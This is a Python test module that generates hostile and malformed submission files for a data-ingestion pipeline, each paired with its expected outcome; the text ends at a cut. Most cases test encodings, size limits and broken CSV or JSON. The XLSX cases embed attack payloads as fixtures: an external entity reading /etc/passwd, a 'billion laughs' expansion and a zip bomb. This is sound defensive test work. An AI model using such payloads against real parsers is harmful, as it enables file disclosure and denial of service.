"""Hostile and odd submission files, generated at test time (never committed), each with the outcome it is owed.

Every file is named after what it tests. Its ``Case`` says what the pipeline must do with it: mark it
``unreadable`` with a reason code of ``parse.REASONS``, or take it to bronze (with an exact row count) and then
decide it (accepted / partly_accepted / rejected, with the rule ids on its quarantined rows). Links and special files
(symlinks, a FIFO) are made in the landing folder by ``write_corpus`` itself, so nothing odd is ever checked in.

Sizes are cut to the small limits in ``LIMITS`` (the ``KOPDES_MAX_*`` variables of ``config.get_limits``): a test
that sets them sees a file over a limit without the pipeline spending seconds on a real 20 MB file.

    python -m tests.hostile.corpus OUT_DIR      # writes the corpus into OUT_DIR and lists the cases
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import os
import re
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from functools import cache
from pathlib import Path

COOP = "KDMP-1902022001"  # registered (include/kopdes_hub/reference/cooperatives.csv), 399 members
PERIOD = "2026-07"
RECEIVED = datetime(2026, 8, 5, 9, 0, tzinfo=UTC)  # every file's mtime: received_at is deterministic

# The limits a corpus run sets (env var -> value); the corpus's files over a limit are sized from these.
MAX_FILE_BYTES = 1_000_000
MAX_ROWS = 1_000
MAX_COLUMNS = 100
MAX_CELL_CHARS = 10_000
MAX_JSON_DEPTH = 20
MAX_XLSX_UNCOMPRESSED_BYTES = 5_000_000
LIMITS = {
    "KOPDES_MAX_FILE_BYTES": str(MAX_FILE_BYTES),
    "KOPDES_MAX_ROWS": str(MAX_ROWS),
    "KOPDES_MAX_COLUMNS": str(MAX_COLUMNS),
    "KOPDES_MAX_CELL_CHARS": str(MAX_CELL_CHARS),
    "KOPDES_MAX_JSON_DEPTH": str(MAX_JSON_DEPTH),
    "KOPDES_MAX_XLSX_UNCOMPRESSED_BYTES": str(MAX_XLSX_UNCOMPRESSED_BYTES),
}

HEADER = (
    "kode_koperasi",
    "periode",
    "jenis",
    "tanggal",
    "komoditas",
    "jumlah",
    "satuan",
    "harga_satuan",
    "mutu",
    "keterangan",
)
HEADER_EN = (
    "cooperative_id",
    "period",
    "flow",
    "date",
    "commodity",
    "quantity",
    "unit",
    "unit_price_idr",
    "grade",
    "notes",
)
FINANCE_HEADER = ("kode_koperasi", "periode", "pendapatan", "biaya_operasional", "kas", "jumlah_anggota")

# Personal data a clerk may paste into a file: a member's NIK (16 digits) must not travel past bronze.
NIK_IN_NOTES = "1902014506780001"
NIK_IN_COLUMN = "1902024107850002"
NIKS = (NIK_IN_NOTES, NIK_IN_COLUMN)

ACCEPTED, PARTLY, REJECTED = "accepted", "partly_accepted", "rejected"


@dataclass(frozen=True)
class CsvReading:
    """How an independent reader (Python's csv on the decoded text) finds a CSV's data records."""

    encoding: str
    delimiter: str
    header: tuple[str, ...]  # the header record as written (cells stripped)


@dataclass(frozen=True)
class Case:
    """One landing entry and the outcome the pipeline owes it."""

    name: str  # landing-relative path
    why: str  # what is odd about it, and why this outcome
    reason_code: str | None = None  # unreadable, with this code of parse.REASONS
    also_ok: tuple[str, ...] = ()  # other codes that are as right (where the contract does not settle it)
    bronze_rows: int | None = None  # reaches bronze with exactly this many rows
    decision: str | None = None  # then: accepted / partly_accepted / rejected
    rule_ids: frozenset[str] = frozenset()  # every rule id on its quarantined rows, all together
    quarantined: int | None = None  # rows quarantined (None: 0 when accepted, all when rejected)
    reading: CsvReading | None = None  # a CSV that reaches bronze: how to count its records independently
    special: str | None = None  # made by write_corpus, not a regular file: symlink or fifo
    ignored: bool = False  # not a submission by design (a lock file, an upload in progress, a hidden file)
    duplicate_of: str | None = None  # the same bytes as this case: one submission, two names

    @property
    def ledger_path(self) -> str:
        """The path as the ledger records it: the name's bytes as UTF-8, a byte that is not escaped (``\\xe9``)."""
        return os.fsencode(self.name).decode("utf-8", "backslashreplace")

    @property
    def outcome(self) -> str:
        if self.ignored:
            return "ignored"
        if self.duplicate_of:
            return f"duplicate of {self.duplicate_of}"
        if self.reason_code:
            return f"unreadable: {'|'.join((self.reason_code, *self.also_ok))}"
        rules = ",".join(sorted(self.rule_ids)) or "-"
        return f"bronze {self.bronze_rows} rows, {self.decision} (quarantine rules: {rules})"

    @property
    def rows_quarantined(self) -> int:
        if self.quarantined is not None:
            return self.quarantined
        return 0 if self.decision == ACCEPTED else int(self.bronze_rows or 0)


def count_records(data: bytes, reading: CsvReading) -> int:
    """Non-blank data records after the header, as Python's csv module reads the decoded text."""
    text = data.decode(reading.encoding)
    records = csv.reader(io.StringIO(text, newline=""), delimiter=reading.delimiter)
    for record in records:
        if tuple(c.strip() for c in record) == reading.header:
            break
    else:
        raise ValueError(f"header {reading.header} not found")
    return sum(1 for record in records if any(c.strip() for c in record))


# --------------------------------------------------------------------------------------------------------------
# Rows and file shapes
# --------------------------------------------------------------------------------------------------------------


def _tag(name: str) -> str:
    """A short ASCII note that makes every case's bytes distinct (the same bytes would be one submission)."""
    return "kasus " + hashlib.sha1(name.encode("utf-8", "surrogateescape")).hexdigest()[:8]


def good_rows(tag: str, numbers: str = "id") -> list[list[str]]:
    """Three valid lines of July 2026 (two supplies of white pepper, one need of rice); ``numbers`` ``id`` writes
    them the Indonesian way (1.250,5 / Rp 160.000), ``en`` plainly (1250.5 / 160000)."""
    if numbers == "id":
        q1, p1, p2, p3 = "1.250,5", "Rp 160.000", "15.800.000", "13.000.000"
    else:
        q1, p1, p2, p3 = "1250.5", "160000", "15800000", "13000000"
    return [
        [COOP, PERIOD, "pasokan", "05/07/2026", "Lada Putih", q1, "kg", p1, "I", "kering – baik"],
        [COOP, PERIOD, "pasokan", "12/07/2026", "Lada Putih", "3", "kuintal", p2, "II", tag],
        [COOP, PERIOD, "kebutuhan", "10/07/2026", "Beras", "2", "ton", p3, "medium", ""],
    ]


def _with(rows: list[list[str]], index: int, column: str, value: str) -> list[list[str]]:
    """The rows with one cell replaced (column by its Indonesian header name)."""
    out = [list(r) for r in rows]
    out[index][HEADER.index(column)] = value
    return out


def csv_text(
    rows: list[list[str]],
    delimiter: str = ";",
    header: tuple[str, ...] = HEADER,
    newline: str = "\r\n",
    before: tuple[str, ...] = (),
) -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline)
    for line in before:
        out.write(line + newline)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def _reading(encoding: str = "utf-8", delimiter: str = ";", header: tuple[str, ...] = HEADER) -> CsvReading:
    return CsvReading(encoding, delimiter, tuple(h.strip() for h in header))


def _json_rows(rows: list[list[str]]) -> list[dict[str, str]]:
    return [dict(zip(HEADER, r, strict=True)) for r in rows]


def workbook_bytes(rows: list[list[object]], title: str = "Laporan") -> bytes:
    """An XLSX of these rows in its first sheet, as openpyxl writes it."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = title
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _typed(rows: list[list[str]]) -> list[list[object]]:
    """Rows as Excel holds them: numbers as numbers (the English spelling of good_rows(..., 'en'))."""
    out: list[list[object]] = []
    for r in rows:
        typed: list[object] = list(r)
        for column in ("jumlah", "harga_satuan"):
            i = HEADER.index(column)
            typed[i] = float(r[i]) if "." in r[i] else int(r[i])
        out.append(typed)
    return out


def _rezip(data: bytes, change: Callable[[str, bytes], bytes | None], extra: dict[str, bytes] | None = None) -> bytes:
    """The workbook with its members passed through ``change`` (None drops a member) and ``extra`` added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = change(info.filename, src.read(info.filename))
            if body is not None:
                dst.writestr(info.filename, body)
        for name, body in (extra or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def _shared_strings(data: bytes) -> bytes:
    """The workbook with its inline strings moved to xl/sharedStrings.xml, as Excel writes them (openpyxl writes
    inline strings, and the hostile variants need a sharedStrings part to poison)."""
    strings: list[bytes] = []

    def shared(match: re.Match) -> bytes:
        if match.group(2) not in strings:
            strings.append(match.group(2))
        return b'<c r="%s" t="s"><v>%d</v></c>' % (match.group(1), strings.index(match.group(2)))

    def change(name: str, body: bytes) -> bytes:
        if name == "xl/worksheets/sheet1.xml":
            return re.sub(rb'<c r="([A-Z]+[0-9]+)" t="inlineStr"><is><t[^>]*>(.*?)</t></is></c>', shared, body)
        if name == "[Content_Types].xml":
            part = (
                '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            )
            return body.replace(b"</Types>", f'{part}spreadsheetml.sharedStrings+xml"/></Types>'.encode())
        if name == "xl/_rels/workbook.xml.rels":
            kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
            rel = f'<Relationship Id="rIdShared" Type="{kind}" Target="sharedStrings.xml"/>'
            return body.replace(b"</Relationships>", rel.encode() + b"</Relationships>")
        return body

    sheet_done = _rezip(data, change)  # fills ``strings`` as it goes
    assert strings, "no inline string to share"
    items = b"".join(b"<si><t>%s</t></si>" % s for s in strings)
    sst = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="%d" uniqueCount="%d">%s</sst>'
        % (len(strings), len(strings), items)
    )
    return _rezip(sheet_done, lambda name, body: body, {"xl/sharedStrings.xml": sst})


def _with_doctype(member: str, doctype: str, replace: tuple[bytes, bytes] | None = None) -> Callable:
    """A ``_rezip`` change putting ``doctype`` at the top of ``member`` (and making one replacement in it)."""

    def change(name: str, body: bytes) -> bytes:
        if name != member:
            return body
        body = re.sub(rb"^<\?xml[^>]*\?>", b"", body.lstrip())
        if replace:
            assert replace[0] in body, f"{replace[0]!r} not in {member}"
            body = body.replace(*replace, 1)
        return b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + doctype.encode() + b"\n" + body

    return change


def _poisoned(tag: str, member: str, doctype: str, replace: tuple[bytes, bytes] | None = None) -> bytes:
    data = _shared_strings(_good_xlsx(tag))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert member in z.namelist(), member
    return _rezip(data, _with_doctype(member, doctype, replace))


def _good_xlsx(tag: str, before: list[list[object]] | None = None) -> bytes:
    return workbook_bytes([*(before or []), list(HEADER), *_typed(good_rows(tag, "en"))])


def _zip_bomb_sheet(tag: str, rows: int) -> bytes:
    """A real workbook whose first sheet gets ``rows`` identical number rows: kilobytes packed, megabytes unpacked."""
    base = _good_xlsx(tag)
    row = b"<row>" + b"<c><v>1</v></c>" * 6 + b"</row>"

    def change(name: str, body: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return body
        end = body.index(b"</sheetData>")
        return body[:end] + row * rows + body[end:]

    return _rezip(base, change)


def _dimension(data: bytes, ref: str) -> bytes:
    def change(name: str, body: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return body
        body, n = re.subn(rb'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{ref}"/>'.encode(), body)
        assert n == 1, "no <dimension> to replace"
        return body

    return _rezip(data, change)


# --------------------------------------------------------------------------------------------------------------
# The cases
# --------------------------------------------------------------------------------------------------------------

Entry = tuple[Case, bytes | None]


def _ok(name: str, why: str, data: bytes, rows: int = 3, reading: CsvReading | None = None) -> Entry:
    return Case(name, why, bronze_rows=rows, decision=ACCEPTED, reading=reading), data


def _bad(name: str, why: str, code: str, data: bytes, also_ok: tuple[str, ...] = ()) -> Entry:
    return Case(name, why, reason_code=code, also_ok=also_ok), data


def _partly(
    name: str, why: str, data: bytes, rules: set[str], quarantined: int = 1, rows: int = 3, reading=None
) -> Entry:
    case = Case(
        name,
        why,
        bronze_rows=rows,
        decision=PARTLY,
        rule_ids=frozenset(rules),
        quarantined=quarantined,
        reading=reading,
    )
    return case, data


def _rejected(name: str, why: str, data: bytes, rules: set[str], rows: int = 3, reading=None) -> Entry:
    return Case(name, why, bronze_rows=rows, decision=REJECTED, rule_ids=frozenset(rules), reading=reading), data


def _encodings() -> list[Entry]:
    def rows(name: str) -> list[list[str]]:
        return good_rows(_tag(name))

    n1 = "enc_utf8_semicolon_decimal_comma.csv"
    n2 = "enc_utf8_bom_comma_decimal_point.csv"
    n3 = "enc_cp1252_semicolon_en_dash.csv"
    n4 = "enc_utf16le_bom_tab_excel_unicode_text.txt"
    n5 = "enc_utf16be_bom_semicolon.csv"
    n6 = "enc_utf16le_no_bom.csv"
    n7 = "enc_mixed_utf8_and_one_latin1_byte.csv"
    n8 = "enc_invalid_bytes_undefined_in_cp1252.csv"
    cp1252 = _with(rows(n3), 2, "keterangan", "beras café – kualitas baik")
    mixed = csv_text(_with(rows(n7), 2, "keterangan", "kering – baik, café")).encode()
    mixed = mixed.replace("café".encode(), b"caf\xe9")  # one Latin-1 byte in an otherwise UTF-8 file
    invalid = csv_text(_with(rows(n8), 2, "keterangan", "ok")).encode("ascii", "replace").replace(b"ok", b"o\x81\x8dk")
    return [
        _ok(n1, "plain UTF-8, `;`, Indonesian numbers", csv_text(rows(n1)).encode(), reading=_reading()),
        _ok(
            n2,
            "UTF-8 with BOM, `,`, plain numbers",
            ("\ufeff" + csv_text(good_rows(_tag(n2), "en"), ",")).encode(),
            reading=_reading("utf-8-sig", ","),
        ),
        _ok(n3, "Windows-1252 (Excel's 'CSV')", csv_text(cp1252).encode("cp1252"), reading=_reading("cp1252")),
        _bad(
            n4,
            "Excel's 'Unicode Text' (UTF-16LE with BOM, tabs): contract v1 reads UTF-8 or Windows-1252 only",
            "unknown_encoding",
            csv_text(rows(n4), "\t").encode("utf-16"),  # Python writes the BOM, little-endian here
            also_ok=("binary_file",),
        ),
        _bad(
            n5,
            "UTF-16BE with BOM: outside contract v1's encodings",
            "unknown_encoding",
            b"\xfe\xff" + csv_text(rows(n5)).encode("utf-16-be"),
            also_ok=("binary_file",),
        ),
        _bad(
            n6,
            "UTF-16 without BOM: neither UTF-8 nor Windows-1252, and nothing says which UTF-16",
            "unknown_encoding",
            csv_text(rows(n6)).encode("utf-16-le"),
            also_ok=("binary_file",),
        ),
        _bad(
            n7, "UTF-8 with one Latin-1 byte: decoding all as cp1252 would garble every accent", "mixed_encoding", mixed
        ),
        _bad(n8, "bytes 0x81 0x8d are undefined in Windows-1252 and invalid UTF-8", "unknown_encoding", invalid),
    ]


def _structure() -> list[Entry]:
    def rows(name: str, numbers: str = "id") -> list[list[str]]:
        return good_rows(_tag(name), numbers)

    out: list[Entry] = []
    name = "csv_header_only.csv"
    out.append(
        _rejected(
            name, "a header and no rows: bronze with 0 rows, then rejected", csv_text([]).encode(), set(), 0, _reading()
        )
    )
    name = "csv_no_header_data_only.csv"
    out.append(
        _bad(name, "data rows without a header", "no_header", csv_text(rows(name)).encode().split(b"\r\n", 1)[1])
    )
    name = "csv_title_rows_above_header.csv"
    title = ("LAPORAN KOPERASI DESA MERAH PUTIH MEMBALONG;;;", "Bulan: Juli 2026", "")
    out.append(
        _ok(name, "title rows above the header", csv_text(rows(name), before=title).encode(), reading=_reading())
    )
    name = "csv_excel_sep_hint_first_line.csv"
    out.append(
        _ok(name, "Excel's `sep=;` hint line", csv_text(rows(name), before=("sep=;",)).encode(), reading=_reading())
    )
    name = "csv_ragged_rows_short_and_long.csv"
    ragged = rows(name)
    ragged[1] = ragged[1][:8]  # the optional grade and notes left off
    ragged[2] = [*ragged[2], "sel lebih"]  # one cell past the header
    out.append(_ok(name, "a short row and a long row", csv_text(ragged).encode(), reading=_reading()))
    name = "csv_duplicate_header_jumlah_twice.csv"
    header = (*HEADER[:-1], "jumlah")
    out.append(
        _bad(
            name,
            "`jumlah` twice: which is the quantity?",
            "duplicate_column",
            csv_text(rows(name), header=header).encode(),
        )
    )
    name = "csv_duplicate_header_alias_qty_and_jumlah.csv"
    header = (*HEADER[:-1], "Qty")
    out.append(
        _bad(
            name,
            "`jumlah` and `Qty` both name the quantity",
            "duplicate_column",
            csv_text(rows(name), header=header).encode(),
        )
    )
    name = "csv_duplicate_unknown_header_names.csv"
    header = (*HEADER, "catatan_lain", "catatan_lain")
    body = [[*r, "a", "b"] for r in rows(name)]
    out.append(
        _ok(
            name,
            "a repeated header the contract does not know is no conflict",
            csv_text(body, header=header).encode(),
            reading=_reading(header=header),
        )
    )
    name = "csv_100k_columns_line.csv"
    wide = csv_text(rows(name)[:1]) + ";".join(["x"] * 100_000) + "\r\n"
    out.append(_bad(name, f"a line of 100,000 cells (limit {MAX_COLUMNS} columns)", "too_large", wide.encode()))
    name = f"csv_header_{MAX_COLUMNS + 50}_columns.csv"
    header = (*HEADER, *(f"kolom_tambahan_{i}" for i in range(MAX_COLUMNS + 40)))
    body = [[*r, *(["x"] * (MAX_COLUMNS + 40))] for r in rows(name)]
    out.append(
        _bad(
            name,
            f"{len(header)} named columns (limit {MAX_COLUMNS})",
            "too_large",
            csv_text(body, header=header).encode(),
        )
    )
    name = "csv_5mb_cell.csv"
    big = csv_text(_with(rows(name), 0, "keterangan", "A" * 5_000_000)).encode()
    out.append(_bad(name, "one 5 MB cell (over the file and cell limits)", "too_large", big))
    name = "csv_cell_20k_chars_over_cell_limit.csv"
    big = csv_text(_with(rows(name), 0, "keterangan", "B" * (2 * MAX_CELL_CHARS))).encode()
    out.append(_bad(name, f"one cell of {2 * MAX_CELL_CHARS} characters (limit {MAX_CELL_CHARS})", "too_large", big))
    name = "csv_unterminated_quote_line3.csv"
    lines = csv_text([*rows(name), *good_rows("baris lain", "id"), *good_rows("baris ketiga", "id")[:1]]).split("\r\n")
    lines[2] = lines[2].replace(";Lada Putih;", ';"Lada Putih;')  # opened on line 3 of 8, never closed
    out.append(
        _bad(name, "a quote opened on line 3 of 8 and never closed", "malformed_csv", "\r\n".join(lines).encode())
    )
    name = "csv_quoted_line_break_in_notes.csv"
    broken = _with(rows(name), 0, "keterangan", "dikirim dua tahap:\r\n1) 1.000 kg\n2) sisanya")
    out.append(
        _ok(name, "a legitimate line break inside a quoted notes cell", csv_text(broken).encode(), reading=_reading())
    )
    name = "csv_quoted_delimiter_and_escaped_quotes.csv"
    quoted = _with(rows(name), 0, "keterangan", 'kata petani: "bagus; kering"')
    out.append(_ok(name, "`;` and doubled quotes inside a quoted cell", csv_text(quoted).encode(), reading=_reading()))
    out.append(
        _bad(
            "csv_only_blank_lines.csv",
            "only blank lines: no header",
            "no_header",
            b"\r\n\r\n   \r\n\t\r\n\n",
            also_ok=("empty_file",),
        )
    )
    name = "csv_nul_byte_after_64kib.csv"
    padded = [_with(rows(name), i % 3, "keterangan", f"{i} " + "c" * 9_000)[i % 3] for i in range(8)]
    padded = [[*r[:3], f"{1 + i:02d}/07/2026", *r[4:]] for i, r in enumerate(padded)]
    text = csv_text(padded).encode()
    assert len(text) > 70_000
    out.append(_bad(name, "a NUL byte past the first 64 KiB", "binary_file", text[:-20] + b"\x00" + text[-20:]))
    name = "csv_semicolon_decimal_comma_1.250,5.csv"
    out.append(_ok(name, "`;` with 1.250,5", csv_text(rows(name)).encode(), reading=_reading()))
    name = "csv_comma_decimal_point_1250.5.csv"
    out.append(_ok(name, "`,` with 1250.5", csv_text(rows(name, "en"), ",").encode(), reading=_reading(delimiter=",")))
    name = "csv_tab_separated.tsv"
    out.append(_ok(name, "tab-separated", csv_text(rows(name, "en"), "\t").encode(), reading=_reading(delimiter="\t")))
    name = "csv_pipe_separated.csv"
    out.append(_ok(name, "`|`-separated", csv_text(rows(name, "en"), "|").encode(), reading=_reading(delimiter="|")))
    name = "csv_cr_only_line_endings.csv"
    out.append(
        _ok(name, "old Mac line endings (CR only)", csv_text(rows(name), newline="\r").encode(), reading=_reading())
    )
    name = "csv_blank_lines_between_and_after_rows.csv"
    text = csv_text(rows(name)).replace("\r\n", "\r\n\r\n;;;\r\n", 2) + "\r\n   \r\n;;;;\r\n"
    out.append(_ok(name, "blank and delimiter-only lines between and after rows", text.encode(), reading=_reading()))
    name = "csv_english_headers_mixed_case_spaces.csv"
    header = tuple(f" {h.replace('_', ' ').title()} " for h in HEADER_EN)
    out.append(
        _ok(
            name,
            "English headers in title case with spaces",
            csv_text(rows(name, "en"), ",", header=header).encode(),
            reading=_reading(delimiter=",", header=header),
        )
    )
    name = "csv_whitespace_padded_cells.csv"
    padded_cells = [[f"  {c} " for c in r] for r in rows(name)]
    out.append(_ok(name, "every cell padded with spaces", csv_text(padded_cells).encode(), reading=_reading()))
    name = f"csv_rows_{MAX_ROWS}_at_row_limit.csv"
    many = [
        [COOP, PERIOD, "pasokan", "05/07/2026", "Lada Putih", str(1 + i), "kg", "160.000", "I", ""]
        for i in range(MAX_ROWS)
    ]
    out.append(
        _ok(name, f"exactly {MAX_ROWS} rows: at the limit, not over", csv_text(many).encode(), MAX_ROWS, _reading())
    )
    name = f"csv_rows_{MAX_ROWS + 1}_over_row_limit.csv"
    many = [
        [COOP, PERIOD, "pasokan", "05/07/2026", "Lada Putih", str(1 + i), "kg", "160.001", "I", ""]
        for i in range(MAX_ROWS + 1)
    ]
    out.append(_bad(name, f"{MAX_ROWS + 1} rows (limit {MAX_ROWS})", "too_large", csv_text(many).encode()))
    name = "csv_1.2mb_over_file_byte_limit.csv"
    notes = "d" * 2_000
    many = [
        [COOP, PERIOD, "pasokan", "05/07/2026", "Lada Putih", str(1 + i), "kg", "160.000", "I", notes]
        for i in range(600)
    ]
    text = csv_text(many).encode()
    assert len(text) > MAX_FILE_BYTES
    out.append(
        _bad(
            name, f"{len(text):,} bytes (limit {MAX_FILE_BYTES:,}), each row and cell within limits", "too_large", text
        )
    )
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    out.append(_bad("csv_binary_png_renamed.csv", "a PNG renamed .csv", "binary_file", png + bytes(range(256))))
    name = "csv_gzip_compressed.csv.gz"
    out.append(
        _bad(name, "a gzip-compressed CSV", "binary_file", gzip.compress(csv_text(rows(name)).encode(), mtime=0))
    )
    out.append(_bad("empty_0_bytes.csv", "0 bytes", "empty_file", b""))
    name = "finance_semicolon_valid.csv"
    finance = f"{';'.join(FINANCE_HEADER)}\r\n{COOP};{PERIOD};15.000.000;9.000.000;4.000.000;120\r\n"
    out.append(_ok(name, "a finance file", finance.encode(), 1, _reading(header=FINANCE_HEADER)))
    return out


def _json() -> list[Entry]:
    def rows(name: str) -> list[dict[str, str]]:
        return _json_rows(good_rows(_tag(name), "en"))

    def dumps(document: object) -> bytes:
        return json.dumps(document, ensure_ascii=False).encode()

    out: list[Entry] = []
    name = "json_list_of_rows.json"
    out.append(_ok(name, "a list of row objects", dumps(rows(name))))
    name = "json_object_with_header_and_baris.json"
    body = [{k: v for k, v in r.items() if k not in ("kode_koperasi", "periode")} for r in rows(name)]
    out.append(
        _ok(name, "header fields and a `baris` list", dumps({"kode_koperasi": COOP, "periode": PERIOD, "baris": body}))
    )
    name = "json_utf8_bom_list.json"
    out.append(_ok(name, "a list of rows after a UTF-8 BOM", "\ufeff".encode() + dumps(rows(name))))
    name = "json_nested_10000_deep.json"
    out.append(_bad(name, "arrays nested 10,000 deep", "too_deep", b"[" * 10_000 + b"]" * 10_000))
    name = f"json_nested_{MAX_JSON_DEPTH + 5}_deep_in_a_cell.json"
    deep = rows(name)
    nested: object = "x"
    for _ in range(MAX_JSON_DEPTH + 5):
        nested = [nested]
    deep[0]["keterangan"] = nested  # type: ignore[assignment]
    out.append(
        _bad(name, f"a notes value nested {MAX_JSON_DEPTH + 5} deep (limit {MAX_JSON_DEPTH})", "too_deep", dumps(deep))
    )
    name = "json_number_5000_digits.json"
    text = dumps(rows(name)).decode().replace('"jumlah": "1250.5"', '"jumlah": ' + "9" * 5_000, 1)
    assert "9" * 5_000 in text
    out.append(
        _partly(
            name,
            "a 5,000-digit number reaches bronze as text; its row is not a number of the contract",
            text.encode(),
            {"NUMBER_FORMAT"},
        )
    )
    name = "json_duplicate_keys_in_row.json"
    text = dumps(rows(name)).decode().replace('"jumlah": "3"', '"jumlah": "3", "jumlah": "300"', 1)
    out.append(_bad(name, "a row object repeats `jumlah`: which one counts?", "duplicate_key", text.encode()))
    name = "json_duplicate_keys_top_level.json"
    body = [{k: v for k, v in r.items() if k != "kode_koperasi"} for r in rows(name)]
    text = dumps({"kode_koperasi": COOP, "baris": body}).decode()
    text = text.replace(f'"kode_koperasi": "{COOP}"', f'"kode_koperasi": "{COOP}", "kode_koperasi": "KDMP-1902022002"')
    out.append(_bad(name, "the header object repeats `kode_koperasi`", "duplicate_key", text.encode()))
    out.append(
        _bad(
            "json_top_level_scalar.json",
            "a JSON string, not rows (read as a one-line CSV it has no header either)",
            "invalid_json",
            b'"laporan bulan juli"',
            also_ok=("no_header",),
        )
    )
    out.append(_bad("json_list_of_non_objects.json", "a list of numbers", "invalid_json", b"[1, 2, 3]"))
    out.append(
        _bad(
            "json_object_without_rows_key.json",
            "an object without `baris`/`rows`",
            "invalid_json",
            dumps({"kode_koperasi": COOP, "periode": PERIOD, "data": "kosong"}),
        )
    )
    out.append(
        _bad(
            "json_rows_key_not_a_list.json",
            "`baris` is an object, not a list",
            "invalid_json",
            dumps({"kode_koperasi": COOP, "baris": {"jumlah": 1}}),
        )
    )
    name = "json_nan_and_infinity.json"
    text = dumps(rows(name)).decode()
    text = text.replace('"jumlah": "2"', '"jumlah": NaN', 1).replace(
        '"harga_satuan": "13000000"', '"harga_satuan": Infinity', 1
    )
    assert "NaN" in text and "Infinity" in text
    out.append(
        _partly(
            name,
            "NaN and Infinity (not JSON numbers) reach bronze as text and fail NUMBER_FORMAT",
            text.encode(),
            {"NUMBER_FORMAT"},
        )
    )
    name = "json_float_1e999.json"
    text = dumps(rows(name)).decode().replace('"jumlah": "2"', '"jumlah": 1e999', 1)
    out.append(_partly(name, "1e999 overflows a float: no number of the contract", text.encode(), {"NUMBER_FORMAT"}))
    name = f"json_rows_with_{MAX_COLUMNS + 50}_keys.json"
    wide = [{**r, **{f"kunci_{i}": "x" for i in range(MAX_COLUMNS + 40)}} for r in rows(name)]
    out.append(_bad(name, f"rows of {MAX_COLUMNS + 50} keys (limit {MAX_COLUMNS} columns)", "too_large", dumps(wide)))
    name = "json_huge_string_50k_chars.json"
    huge = rows(name)
    huge[0]["keterangan"] = "h" * 50_000
    out.append(_bad(name, f"a 50,000-character string (cell limit {MAX_CELL_CHARS})", "too_large", dumps(huge)))
    out.append(_bad("json_trailing_comma.json", "a trailing comma", "invalid_json", b'[{"kode_koperasi": "x",}]'))
    out.append(_bad("json_empty_list.json", "`[]`: no rows, no columns", "no_header", b"[]"))
    name = "json_nested_object_in_notes.json"
    nested_ok = rows(name)
    nested_ok[0]["keterangan"] = {"gudang": {"blok": ["A", 1]}}  # type: ignore[assignment]
    out.append(_ok(name, "an object in a notes cell, shallow: kept as JSON text", dumps(nested_ok)))
    name = f"json_rows_{MAX_ROWS + 1}_over_row_limit.json"
    many = [{**rows(name)[0], "jumlah": str(1 + i)} for i in range(MAX_ROWS + 1)]
    out.append(_bad(name, f"{MAX_ROWS + 1} rows (limit {MAX_ROWS})", "too_large", dumps(many)))
    return out


def _xlsx_cases() -> list[Entry]:
    out: list[Entry] = []
    name = "xlsx_valid.xlsx"
    out.append(_ok(name, "a plain workbook", _good_xlsx(_tag(name))))
    name = "xlsx_shared_strings_as_excel_writes.xlsx"
    out.append(
        _ok(
            name,
            "strings in xl/sharedStrings.xml (the form the poisoned variants below start from)",
            _shared_strings(_good_xlsx(_tag(name))),
        )
    )
    name = "xlsx_title_rows_above_header.xlsx"
    out.append(
        _ok(name, "title rows above the header", _good_xlsx(_tag(name), [["LAPORAN KOPDES MEMBALONG - JULI 2026"], []]))
    )
    name = "xlsx_date_cells_and_numbers.xlsx"
    typed = _typed(good_rows(_tag(name), "en"))
    for row, day in zip(typed, (5, 12, 10), strict=True):
        row[HEADER.index("tanggal")] = datetime(2026, 7, day)
    out.append(_ok(name, "real date cells", workbook_bytes([list(HEADER), *typed])))
    name = "xlsx_doctype_internal_entity_in_sharedstrings.xlsx"
    doctype = f'<!DOCTYPE sst [<!ENTITY koperasi "{COOP}">]>'
    data = _poisoned(_tag(name), "xl/sharedStrings.xml", doctype, (f"<t>{COOP}</t>".encode(), b"<t>&koperasi;</t>"))
    out.append(_bad(name, "a DOCTYPE with an entity in sharedStrings.xml", "unsafe_xlsx", data))
    name = "xlsx_external_entity_etc_passwd.xlsx"
    doctype = '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    data = _poisoned(_tag(name), "xl/sharedStrings.xml", doctype, (f"<t>{COOP}</t>".encode(), b"<t>&xxe;</t>"))
    out.append(_bad(name, "an external entity pointing at /etc/passwd", "unsafe_xlsx", data))
    name = "xlsx_billion_laughs_in_sharedstrings.xlsx"
    levels = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 7)]
    doctype = "<!DOCTYPE sst [" + "".join(levels) + "]>"
    data = _poisoned(_tag(name), "xl/sharedStrings.xml", doctype, (b"<t>kering", b"<t>&lol6;kering"))
    out.append(_bad(name, "entity expansion ('billion laughs', 10^6 here) in sharedStrings.xml", "unsafe_xlsx", data))
    name = "xlsx_doctype_in_worksheet.xlsx"
    doctype = '<!DOCTYPE worksheet [<!ENTITY n "3">]>'
    data = _poisoned(_tag(name), "xl/worksheets/sheet1.xml", doctype)
    out.append(_bad(name, "a DOCTYPE in the worksheet XML", "unsafe_xlsx", data))
    name = "xlsx_zip_bomb_200k_rows.xlsx"
    out.append(
        _bad(
            name,
            "200,000 identical rows: kilobytes packed, megabytes unpacked",
            "unsafe_xlsx",
